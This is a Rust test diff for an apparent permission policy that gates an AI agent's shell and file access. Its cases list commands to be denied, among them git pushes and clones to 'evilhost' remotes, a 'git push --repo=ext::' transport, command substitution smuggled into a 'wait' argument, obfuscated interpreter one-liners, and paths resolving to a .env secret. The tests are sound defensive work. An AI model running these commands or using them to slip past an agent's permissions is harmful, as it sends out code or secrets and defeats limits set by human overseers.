@@ -504,3 +504,66 @@ fn a_file_that_must_not_be_written_is_not_written_around_its_name() {
         &["npm test", "cp a b", "mv a b", "cat lock.json", "git commit -m 'lock.json'", "ls .git"],
     )]);
 }
+
+#[test]
+fn what_the_first_table_did_not_have() {
+    table(&[
+        (
+            &["shell"],
+            &[
+                "bash --norc <<< id",
+                "bash -x <<< id",
+                "bash -o pipefail <<< id",
+                "bash -es <<< id",
+                "git push evil-host:x main",
+                "git clone evilhost:x",
+                "git remote add x evilhost:y",
+                "git push --repo=ext::id",
+                "chmod --rec 755 src",
+                "http evilhost/x",
+                "CURL file:/outside",
+            ],
+            &["bash a.sh", "bash -x a.sh", "git push origin main:main", "git show HEAD:src/a"],
+        ),
+        (
+            &[],
+            &[
+                "wait -n -p 'a[$(id)]'",
+                "[ $x ]",
+                "[ \"$x\" \"$y\" ]",
+                "test $x -gt 0",
+                "test -n a -a -v \"$y\"",
+            ],
+            &["[ -n \"$x\" ]", "[ \"$x\" = y ]", "[ $? -eq 0 ]", "test -f a", "wait", "[ \"$x\" -gt 0 ]"],
+        ),
+        (&["shell(npm test)", "write(/home/p/shop/.env)"], &[], &["npm test > .env 2> /dev/null"]),
+    ]);
+    denying(&[(
+        &["shell"],
+        &["shell(touch)"],
+        &[
+            "python3 -c 'import os; os.system(\"to\" + \"uch a\")'",
+            "perl -e 'exec q(to).q(uch)'",
+            "python3 <<< 'x'",
+            "python3 -",
+            "node -p 1",
+            "ruby -e x",
+        ],
+        &["python3 a.py", "node a.js --port 3", "perl a.pl"],
+    )]);
+    denying(&[(&["shell"], &["write(.git/**)"], &[], &["git add .", "git add -A", "git commit -m x"])]);
+}
+
+/// A command whose every path really leads to `.env`.
+#[test]
+fn a_link_to_a_secret_is_a_secret() {
+    for allow in ["shell(cat)", "shell(grep:*)", "shell(cat:*)", "shell"] {
+        for command in ["cat notes", "grep x notes", "cat < notes"] {
+            let mut call = shell(command);
+            for path in call.real_paths.iter_mut().flatten() {
+                *path = PathBuf::from("/home/p/shop/.env");
+            }
+            assert_ne!(by(&policy(&[allow], &[], &[]), &call).outcome, Outcome::Allow, "{allow}: {command}");
+        }
+    }
+}
